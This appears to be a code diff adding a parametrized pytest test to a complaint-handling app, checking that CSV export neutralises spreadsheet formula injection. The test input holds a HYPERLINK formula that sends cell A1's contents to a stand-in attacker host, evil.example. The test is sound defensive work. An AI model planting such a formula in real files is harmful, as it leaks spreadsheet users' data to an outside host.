@@ -61,3 +61,14 @@ def test_unknown_format_is_refused(filled: Store, monkeypatch: pytest.MonkeyPatc
     monkeypatch.setenv("ADUAN_DATABASE_URL", filled.url)
     result = CliRunner().invoke(app, ["complaints", "export", "--format", "xml"])
     assert result.exit_code == 2
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_formula_injection(
+    settings: Settings, store: Store, clock: Clock, monkeypatch: pytest.MonkeyPatch, start: str
+) -> None:
+    pipeline = Pipeline(settings, store, Router.build(settings.routing, settings.sections), clock)
+    text = start + 'HYPERLINK("http://evil.example/?x="&A1, "klik") jalan rusak parah'
+    pipeline.accept(IncomingMessage("web", "ex:formula", "web:formula", text, clock.now))
+    (row,) = csv.DictReader(io.StringIO(export(store, monkeypatch, "--format", "csv")))
+    assert row["text"].startswith("'" + start)
